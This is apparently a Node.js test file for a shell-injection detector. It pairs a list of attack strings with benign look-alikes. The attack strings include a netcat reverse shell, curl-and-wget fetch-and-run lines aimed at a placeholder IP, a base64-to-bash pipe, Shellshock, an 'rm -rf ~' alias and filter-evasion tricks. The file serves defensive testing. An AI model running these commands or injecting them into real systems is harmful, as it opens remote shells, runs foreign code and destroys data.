import { test } from "node:test";
import assert from "node:assert/strict";
import { detectUnixShell } from "./shell.js";
import { commandClass } from "./shell-commands.js";

const ATTACKS = [
  "report.pdf; uname -a",
  "8.8.8.8 && id",
  "x|nc -e /bin/sh 10.0.0.5 4444",
  "$(curl -s http://198.51.100.7/x.sh|sh)",
  "`whoami`",
  "a;w'h'o'a'm'i",
  "q;ca\\t /etc/hosts",
  "{wget,http://198.51.100.7/a}",
  "cat /e?c/ho?ts",
  "x;${IFS}id",
  "nohup python3 -c 'import os' &",
  "() { :; }; echo vulnerable",
  "base64 -d <<< ZWNobyBoaQ== | bash",
  "ls${IFS}-la${IFS}/tmp",
  "logo.png\nwget http://198.51.100.7/p -O /tmp/p",
  "sudo -u root id",
  "name=x; alias ll='rm -rf ~'",
  "data.csv > /tmp/out.txt",
  "/usr/bin/id",
];
const BENIGN = [
  "Tom & Jerry; a classic",
  "cat toys for sale",
  "Shoes & more",
  "| Name | Id |\n|------|----|\n| x | 1 |",
  "find the best deals",
  "time to relax",
  "python tutorial",
  "uname",
  "nice cat pictures",
  "50% off; today only",
  "Read more at https://example.com/a",
  "test1",
  "$(document).ready(fn)",
  "Select the blue one if the red is out of stock; otherwise cancel.",
  "It's for my dad's birthday, could you make sure it arrives before Friday?",
  "Tr0ub4dor&3",
  "/[a-z]{2,4}/",
  "myHandler(){ return 1 }",
];

for (const a of ATTACKS) test(`unix shell injection detected: ${JSON.stringify(a)}`, () => assert.equal(detectUnixShell(a), true));
for (const b of BENIGN) test(`unix shell benign: ${JSON.stringify(b)}`, () => assert.equal(detectUnixShell(b), false));

test("command classes: distinctive names, English-word tools, versioned interpreters", () => {
  assert.equal(commandClass("whoami"), "distinct");
  assert.equal(commandClass("cat"), "tool");
  assert.equal(commandClass("python3.11"), "distinct");
  assert.equal(commandClass("test1"), undefined);
  assert.equal(commandClass("hello"), undefined);
});
